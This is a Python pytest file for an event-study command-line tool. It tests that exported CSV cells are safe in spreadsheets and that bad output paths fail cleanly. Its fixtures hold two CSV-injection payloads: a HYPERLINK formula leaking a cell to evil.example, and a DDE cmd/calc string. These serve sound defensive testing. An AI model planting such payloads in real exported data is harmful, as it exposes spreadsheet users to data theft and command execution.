"""What the CLI and the pipeline write: CSV cells safe in spreadsheets; bad --out is exit 2."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pandas as pd
import pytest

from eventstudy.cli import EXIT_BAD_INPUT, main
from eventstudy.datasets import sample_news_path
from eventstudy.pipeline import run_backtest_config, run_pipeline

EVIL_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"贵州茅台涨停")'
EVIL_PUBLISHER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _news_table(folder: Path) -> Path:
    path = folder / "news.csv"
    pd.DataFrame(
        {
            "article_id": ["A1", "A2"],
            "title": [EVIL_TITLE, "-贵州茅台发布公告"],
            "published_at": ["2022-05-31 10:00", "2022-06-15 10:00"],
            "text": ["贵州茅台股价上涨，白酒板块走强。", "贵州茅台公告。"],
            "publisher": [EVIL_PUBLISHER, "证券时报网"],
        }
    ).to_csv(path, index=False)
    return path


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for key, value in row.items():
            assert not (key or "").startswith(("=", "+", "@")), key
            if value and value[0] in "=+-@\t\r":
                float(value.rstrip("%"))  # only numbers may start with a sign


def test_news_out_csv_neutralises_formulas(tmp_path: Path) -> None:
    out = tmp_path / "tags.csv"
    assert main(["news", str(_news_table(tmp_path)), "--out", str(out)]) == 0
    rows = _rows(out)
    titles = {r["title"] for r in rows}
    assert "'" + EVIL_TITLE in titles
    assert "'-贵州茅台发布公告" in titles
    assert {"'" + EVIL_PUBLISHER} <= {r["publisher"] for r in rows}
    _no_formula(rows)


def test_briefing_tables_neutralise_formulas(tmp_path: Path) -> None:
    cfg = {
        "news": {"path": str(_news_table(tmp_path))},
        "events": {"kinds": ["stock"]},
        "market": {"source": "bundled", "offline": True},
        "study": {"estimation_window": [-120, -11], "min_estimation_obs": 60},
        "output": {"dir": str(tmp_path / "out"), "formats": ["csv"]},
    }
    run = run_pipeline(cfg)
    assert run.n_events >= 1
    tables = tmp_path / "out" / "tables"
    events = _rows(tables / "events.csv")
    assert "'" + EVIL_TITLE in {r["title"] for r in events}
    cars = [float(r["car_[-1,1]"]) for r in events]
    assert all(isinstance(c, float) for c in cars)  # numbers stay numbers
    articles = _rows(tables / "news_articles.csv")
    assert {"'" + EVIL_TITLE, "'-贵州茅台发布公告"} <= {r["title"] for r in articles}
    assert "'" + EVIL_PUBLISHER in {r["publisher"] for r in articles}
    for name in ("events.csv", "news_articles.csv", "results.csv"):
        _no_formula(_rows(tables / name))


def test_backtest_events_csv_neutralises_formulas(tmp_path: Path) -> None:
    cfg = {
        "news": {"path": str(_news_table(tmp_path))},
        "events": {"symbols": ["600519.SH"]},
        "market": {"source": "bundled", "offline": True},
        "placebo": {"runs": 0},
    }
    run = run_backtest_config(cfg, tmp_path / "bt")
    rows = _rows(run.files.files["events.csv"])
    assert "'" + EVIL_TITLE in {r["title"] for r in rows}
    _no_formula(rows)


# ----------------------------------------------------------------------------- output paths


def test_out_is_a_file_is_bad_input_naming_the_path(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "briefing_file"
    blocker.write_text("not a folder")
    assert main(["-q", "demo", "--out", str(blocker), "--formats", "csv"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert str(blocker) in err
    assert "is a file, not a folder" in err
    assert "Traceback" not in err


def test_backtest_out_is_a_file_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from eventstudy.datasets import data_dir

    blocker = tmp_path / "bt"
    blocker.write_text("x")
    argv = ["-q", "backtest", str(data_dir() / "example_backtest.toml"), "--offline"]
    assert main([*argv, "--out", str(blocker)]) == EXIT_BAD_INPUT
    assert "is a file, not a folder" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("folder.csv", "is a folder, not a file"),
        ("missing/tags.csv", "its folder does not exist"),
        ("missing/tags.parquet", "its folder does not exist"),
    ],
)
def test_news_out_path_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, expected: str
) -> None:
    (tmp_path / "folder.csv").mkdir()
    out = tmp_path / name
    argv = ["news", str(sample_news_path()), "--articles", "0", "--out", str(out)]
    assert main(argv) == EXIT_BAD_INPUT
    captured = capsys.readouterr()
    assert str(out) in captured.err
    assert expected in captured.err
    assert "articles" not in captured.out  # refused before loading and tagging (audit)


def test_unwritable_output_folder_is_bad_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # simulated (the tests may run as root, who may write anywhere)
    real_mkdir = Path.mkdir

    def deny(self: Path, *args: object, **kwargs: object) -> None:
        if self == tmp_path / "locked":
            raise PermissionError(13, "Permission denied", str(self))
        real_mkdir(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "mkdir", deny)
    assert main(["-q", "demo", "--out", str(tmp_path / "locked"), "--formats", "csv"]) == 2
    err = capsys.readouterr().err
    assert "locked" in err
    assert "permission denied" in err


def test_other_os_errors_on_a_path_are_bad_input(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import eventstudy.cli as cli

    def fail(args: object) -> int:
        raise IsADirectoryError(21, "Is a directory", "/some/config.toml")

    monkeypatch.setattr(cli, "_run", fail)
    assert main(["run", "x.toml"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "/some/config.toml: Is a directory" in err


# ----------------------------------------------------------------------------- duplicates, paths


def _written_text(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): p.read_text(encoding="utf-8", errors="replace")
        for p in folder.rglob("*")
        if p.is_file() and p.suffix in (".csv", ".txt", ".html")
    }


def test_demo_writes_duplicates_counts_them_and_no_absolute_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "briefing"
    assert main(["-q", "demo", "--out", str(out), "--formats", "html,csv"]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("news: 64 inputs: 60 articles, 1 skipped, 3 duplicates\n")
    dups = pd.read_csv(out / "tables" / "news_duplicates.csv", dtype=str)
    assert len(dups) == 3
    assert set(dups["key"]) <= {"article_id", "title_time"}
    assert "tables/news_duplicates.csv" in (out / "briefing.html").read_text(encoding="utf-8")
    skipped = pd.read_csv(out / "tables" / "news_skipped.csv", dtype=str)
    assert skipped["origin"].tolist() == ["_posts/-202205262391921712.md"]
    news_root = str(sample_news_path())
    for name, text in _written_text(out).items():
        assert news_root not in text, name
        assert os.path.abspath(news_root) not in text, name


def test_backtest_writes_duplicates_and_relative_origins(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = {
        "news": {"path": str(sample_news_path())},
        "events": {"symbols": ["600519.SH"]},
        "market": {"source": "bundled", "offline": True},
        "placebo": {"runs": 0},
    }
    run = run_backtest_config(cfg, tmp_path / "bt")
    assert "news_duplicates.csv" in run.files.files
    assert run.news_duplicates is not None
    assert len(run.news_duplicates) == 3
    summary = (tmp_path / "bt" / "summary.txt").read_text(encoding="utf-8")
    assert "news: 64 inputs: 60 articles, 1 skipped, 3 duplicates" in summary
    dups = pd.read_csv(tmp_path / "bt" / "news_duplicates.csv", dtype=str)
    assert not any(os.path.isabs(o) for o in dups["origin"])
    for name, text in _written_text(tmp_path / "bt").items():
        assert str(sample_news_path()) not in text, name


def test_news_out_origins_are_relative(tmp_path: Path) -> None:
    out = tmp_path / "tags.csv"
    assert main(["news", str(sample_news_path()), "--articles", "0", "--out", str(out)]) == 0
    origins = pd.read_csv(out, dtype=str)["origin"]
    assert origins.str.startswith(("_posts/", "old_post/")).all()
